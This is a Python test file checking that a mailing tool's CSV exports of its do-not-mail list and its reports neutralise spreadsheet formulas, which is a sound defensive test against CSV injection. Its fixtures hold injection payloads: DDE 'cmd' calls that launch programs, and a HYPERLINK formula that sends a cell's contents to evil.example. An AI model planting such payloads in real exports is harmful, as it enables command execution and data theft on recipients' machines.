"""T35: no file that Postwarden writes holds what a spreadsheet takes for a formula, whoever's words stand in it.

Notes come from lists that others made, and addresses from mail that strangers sent (CWE-1236).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing
from datetime import date
from pathlib import Path

import pytest

from companion.ledger.reports import Report, ReportDay, as_csv
from companion.sending.suppression import Suppressions
from companion.store.daily import Tally
from companion.store.migrate import open_migrated
from tests.fakes.clock import FixedClock

FORMULA = re.compile(r"[\s']*[=+\-@\uff1d\uff0b\uff0d\uff20]")
NOTES = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '  =HYPERLINK("https://evil.example/?"&A1;"click")',
    "fine;=1+1",
    "fine,=1+1",
    "fine|@SUM(1)",
    'fine";"=1+1',
    "\uff1d1+1",
    "'=1+1",
]
ADDRESSES = ["=1+1@far.example", "+cmd@far.example", "-2+3@far.example", "a+b@far.example", "'=1@far.example"]


def cells(text: str) -> list[str]:
    """Those of any spreadsheet: split at any separator, and whether or not it minds the quotes."""
    found = re.split(r"[;,|\"\t\r\n]", text)
    for separator in ",;|\t":
        found += [
            cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row
        ]
    return found


def formulas(text: str) -> list[str]:
    """What a cell begins with, unless an apostrophe says that it is text."""
    return [cell for cell in cells(text) if FORMULA.match(cell) and not cell.lstrip().startswith("'")]


@pytest.fixture
def new_list(tmp_path: Path) -> Iterator[Callable[[str], Suppressions]]:
    with ExitStack() as stores:
        yield lambda name: Suppressions(
            stores.enter_context(closing(open_migrated(tmp_path / name))), FixedClock()
        )


def listed(people: Suppressions) -> set[tuple[str, str | None]]:
    return {(row.address, row.note) for row in people.page(most=100).rows}


def test_the_list_of_people_not_to_write_to(new_list: Callable[[str], Suppressions]) -> None:
    people, out = new_list("a.db"), io.StringIO(newline="")
    csv.writer(out).writerows(
        [("email", "note"), *((f"p{n}@far.example", note) for n, note in enumerate(NOTES))]
    )
    assert people.take(out.getvalue().encode()).added == len(NOTES)
    for address in ADDRESSES:
        people.add(address, address)
    text = "".join(people.file())
    assert formulas(text) == []
    assert len(listed(people)) == len(NOTES) + len(ADDRESSES)

    # And an import takes back what it was: the apostrophes are the file's, not the list's.
    again = new_list("b.db")
    assert again.take(text.encode()).done
    assert listed(again) == listed(people)


@pytest.mark.parametrize("address", ADDRESSES)
def test_reports(address: str) -> None:
    text = as_csv([Report(address, (ReportDay(date(2026, 11, 26), Tally(sent=1)),))])
    assert formulas(text) == []
    assert "1" in cells(text)  # numbers stay numbers
